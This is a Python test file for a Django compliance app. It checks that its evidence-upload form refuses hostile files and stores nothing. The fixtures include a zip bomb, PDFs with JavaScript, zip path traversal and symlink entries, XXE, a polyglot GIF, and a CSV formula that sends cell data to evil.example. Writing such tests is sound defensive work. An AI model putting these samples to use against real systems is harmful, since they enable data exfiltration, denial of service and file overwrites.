"""Hostile uploads through the admin's form: a clear message, a 4xx or the form again, nothing kept.

The inspection package has the detailed checks (tests/isms/test_files_inspection*.py); here each
kind of attack goes the whole way through the view and the service, and the test looks for a row
or a stored object left behind.
"""

import hashlib
import io
import stat
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from pypdf.actions import JavaScript
from pypdf.generic import NameObject

from evidence.models import Evidence, EvidenceRevision
from isms.audit.actions import AuditAction
from isms.audit.models import AuditEvent
from tests.clamd import EICAR
from tests.evidence.files import pdf_upload
from tests.isms.test_files_inspection import (
    blank_writer,
    pdf_bytes,
    png_header_only,
    reaching_out,
)
from tests.isms.test_files_inspection_archives import (
    RELATIONSHIPS,
    XXE,
    docx_entries,
    relationship,
    with_unix_mode,
    zip_bytes,
    zip_with,
)


def zip_bomb() -> bytes:
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("zeros.bin", "w", force_zip64=True) as entry,
    ):
        for _ in range(150):
            entry.write(b"\x00" * (1024 * 1024))
    return buffer.getvalue()


def pdf_with_javascript() -> bytes:
    writer = blank_writer()
    writer.add_open_action(JavaScript("app.alert('hello');"))
    return pdf_bytes(writer)


def pdf_opening_a_web_address() -> bytes:
    writer = blank_writer()
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(reaching_out("URI"))
    return pdf_bytes(writer)


def docx_with_a_remote_template() -> bytes:
    rels = RELATIONSHIPS % relationship("attachedTemplate", "https://evil.example/t.dotm")
    return zip_bytes(docx_entries() | {"word/_rels/settings.xml.rels": rels})


HOSTILE = {
    "executable named pdf": ("report.pdf", b"MZ\x90\x00" + b"\x00" * 200, "not a PDF"),
    "gif/javascript polyglot": (
        "avatar.png",
        b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=1;alert(document.domain);",
        "GIF",
    ),
    "pdf with a zip appended": ("scan.pdf", pdf_bytes() + zip_bytes({"a.txt": b"x"}), "after"),
    "pdf javascript": ("scan.pdf", pdf_with_javascript(), "JavaScript"),
    "pdf opening a web address": ("scan.pdf", pdf_opening_a_web_address(), "opens a web address"),
    "remote template in a word document": (
        "review.docx",
        docx_with_a_remote_template(),
        "fetches content from outside the file",
    ),
    "symbolic link in a zip": (
        "logs.zip",
        zip_with((with_unix_mode("logs/latest", stat.S_IFLNK | 0o777), b"/etc/passwd")),
        "a symbolic link",
    ),
    "zip bomb": ("logs.zip", zip_bomb(), "zip bomb"),
    "nested archive": ("logs.zip", zip_bytes({"inner.zip": zip_bytes({"a.txt": b"x"})}), "inside"),
    "path traversal": ("logs.zip", zip_bytes({"../../etc/cron.d/x": b"x"}), "../../etc/cron.d/x"),
    "control character in an entry name": (
        "logs.zip",
        zip_bytes({"a\x1b[2Jb.txt": b"x"}),
        "an entry with an unsafe name",
    ),
    "xxe in a word document": ("review.docx", zip_bytes(docx_entries(XXE)), "entity declarations"),
    "image bomb": ("diagram.png", png_header_only(20_000, 20_000), "megapixels"),
    "csv with a formula": (
        "hosts.csv",
        b'host,finding\nweb-1,"=HYPERLINK(""https://evil.example/?""&A1)"\n',
        "would run as a formula",
    ),
    "html named text": (
        "notes.txt",
        b"<html><script>alert(1)</script></html>",
        "its content is an HTML page",
    ),
}


def stored_files(settings: Any) -> list[Path]:
    root = Path(settings.STORAGES["private"]["OPTIONS"]["location"])
    return [path for path in root.rglob("*") if path.is_file()] if root.exists() else []


@pytest.mark.parametrize("attack", HOSTILE, ids=list(HOSTILE))
def test_a_hostile_file_is_refused_with_a_message_and_nothing_is_kept(
    client_for: Callable[[str], Client], annex_a_control: Any, settings: Any, attack: str
) -> None:
    name, data, words = HOSTILE[attack]
    response = client_for("engineer").post(
        reverse("evidence:add"),
        {
            "title": "Upload",
            "controls": [annex_a_control.pk],
            "period_start": "2026-10-01",
            "period_end": "2026-10-31",
            "kind": "file",
            "file": SimpleUploadedFile(name, data, content_type="application/pdf"),
        },
    )
    assert response.status_code == 200
    assert "help-critical" in response.text
    assert words in response.text.replace("&#x27;", "'")
    assert not Evidence.objects.exists()
    assert not EvidenceRevision.objects.exists()
    assert stored_files(settings) == []


def test_an_oversized_upload_is_refused_before_it_is_inspected(
    client_for: Callable[[str], Client], annex_a_control: Any, settings: Any
) -> None:
    settings.EVIDENCE_MAX_UPLOAD_BYTES = 10_000
    response = client_for("engineer").post(
        reverse("evidence:add"),
        {
            "title": "Upload",
            "controls": [annex_a_control.pk],
            "period_start": "2026-10-01",
            "period_end": "2026-10-31",
            "kind": "file",
            "file": SimpleUploadedFile("big.txt", b"a" * 10_001),
        },
    )
    assert (
        "larger than the limit of 0.00953674 MB" in response.text or "larger than" in response.text
    )
    assert not Evidence.objects.exists()
    assert stored_files(settings) == []


def test_an_unknown_control_is_a_form_error(
    client_for: Callable[[str], Client], annex_a_control: Any
) -> None:
    response = client_for("engineer").post(
        reverse("evidence:add"),
        {
            "title": "Upload",
            "controls": [annex_a_control.pk + 999],
            "period_start": "2026-10-01",
            "period_end": "2026-10-31",
            "kind": "note",
            "note": "x",
        },
    )
    assert response.status_code == 200
    assert "Select a valid choice" in response.text
    assert not Evidence.objects.exists()


def post_file(client: Client, control: Any, upload: SimpleUploadedFile) -> Any:
    return client.post(
        reverse("evidence:add"),
        {
            "title": "Upload",
            "controls": [control.pk],
            "period_start": "2026-10-01",
            "period_end": "2026-10-31",
            "kind": "file",
            "file": upload,
        },
    )


def test_malware_is_refused_on_the_form_when_a_scanner_is_configured(
    client_for: Callable[[str], Client], annex_a_control: Any, settings: Any, clamd_scanning: str
) -> None:
    response = post_file(
        client_for("engineer"), annex_a_control, SimpleUploadedFile("eicar.txt", EICAR)
    )

    assert response.status_code == 200
    assert "eicar.txt was refused: the virus scanner found malware in it." in response.text
    assert not Evidence.objects.exists()
    assert stored_files(settings) == []
    [event] = AuditEvent.objects.filter(action=AuditAction.FILE_VIRUS_FOUND)
    assert event.actor_username == "engineer"
    assert event.detail == {
        "upload": "evidence",
        "filename": "eicar.txt",
        "sha256": hashlib.sha256(EICAR).hexdigest(),
    }


def test_a_scanner_that_is_down_is_a_message_on_the_form(
    client_for: Callable[[str], Client], annex_a_control: Any, settings: Any, tmp_path: Path
) -> None:
    settings.CLAMD_SOCKET = str(tmp_path / "clamd.sock")

    response = post_file(client_for("engineer"), annex_a_control, pdf_upload())

    assert response.status_code == 200
    assert "help-critical" in response.text
    assert "The virus scanner is unavailable, so the file was not stored" in response.text
    assert not Evidence.objects.exists()
    assert stored_files(settings) == []
